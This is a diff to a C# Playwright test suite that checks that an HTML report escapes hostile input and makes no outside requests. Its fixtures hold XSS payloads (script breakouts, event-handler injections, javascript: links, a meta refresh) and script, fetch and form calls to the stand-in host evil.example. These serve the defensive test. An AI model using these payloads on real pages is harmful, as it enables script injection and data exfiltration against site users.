@@ -13,7 +13,10 @@ public sealed class ShownPageTests(Chromium chromium) : IClassFixture<Chromium>,
 {
     private const string Attack =
         "</script><script>hacked=1</script><!--<script>hacked=2</script>--><img src=x onerror=hacked=3><svg onload=hacked=4></svg>\" onmouseover=\"hacked=5\" x='&#60;<iframe src=https://evil.example/></iframe>"
-        + "<style>@import 'https://evil.example/a.css'</style><a href=\"javascript:hacked=6\">x</a><meta http-equiv=refresh content=0;url=https://evil.example/>";
+        + "<style>@import 'https://evil.example/a.css'</style><a href=\"javascript:hacked=6\">x</a>" + Refresh;
+
+    // No policy can forbid a page to be left in this way; encoding has to.
+    private const string Refresh = "<meta http-equiv=refresh content=0;url=https://evil.example/>";
 
     private readonly string folder = Directory.CreateTempSubdirectory("leo-shown <b>&' ").FullName;
 
@@ -65,7 +68,7 @@ public sealed class ShownPageTests(Chromium chromium) : IClassFixture<Chromium>,
         string file = System.IO.Path.Combine(folder, "breached.html");
         string html = new HtmlReport("x", "y").Text("z").Show(new VideoPlayer(Moving())).ToHtml();
         Assert.Contains("<p>z</p>", html, StringComparison.Ordinal);
-        File.WriteAllText(file, html.Replace("<p>z</p>", Attack + "<script src=https://evil.example/x.js></script><img src=https://evil.example/x.png><script>fetch('https://evil.example/')</script><form action=https://evil.example/><button id=send>go</button></form>", StringComparison.Ordinal));
+        File.WriteAllText(file, html.Replace("<p>z</p>", Attack.Replace(Refresh, "", StringComparison.Ordinal) + "<script src=https://evil.example/x.js></script><img src=https://evil.example/x.png><script>fetch('https://evil.example/')</script><form action=https://evil.example/><button id=send>go</button></form>", StringComparison.Ordinal));
         await using var page = await chromium.Open();
 
         await page.Page.GotoAsync(new Uri(file).AbsoluteUri, new() { WaitUntil = Microsoft.Playwright.WaitUntilState.DOMContentLoaded });
@@ -92,7 +95,7 @@ public sealed class ShownPageTests(Chromium chromium) : IClassFixture<Chromium>,
         Assert.Equal(0, await page.Page.EvaluateAsync<int>("document.querySelectorAll('iframe, img[src=x], a[href^=javascript], [onmouseover], [onerror], [onload], body meta').length"));
         Assert.Contains("hacked=1", await page.Page.EvaluateAsync<string>("document.documentElement.textContent"), StringComparison.Ordinal); // shown as text
         Assert.All(page.Requests.Where(r => r != new Uri(file).AbsoluteUri), r => Assert.True(r.StartsWith("data:", StringComparison.Ordinal) || r.StartsWith("blob:", StringComparison.Ordinal), r));
-        Assert.DoesNotContain(page.Errors, e => !e.Contains("WebGL", StringComparison.Ordinal) && !e.Contains("GPU stall", StringComparison.Ordinal)); // a machine without graphics says so
+        Assert.DoesNotContain(page.Errors, e => !e.Contains("WebGL", StringComparison.Ordinal) && !e.Contains("Canvas2D", StringComparison.Ordinal)); // a machine without graphics says so
         Assert.Empty(await page.Violations());
     }
 
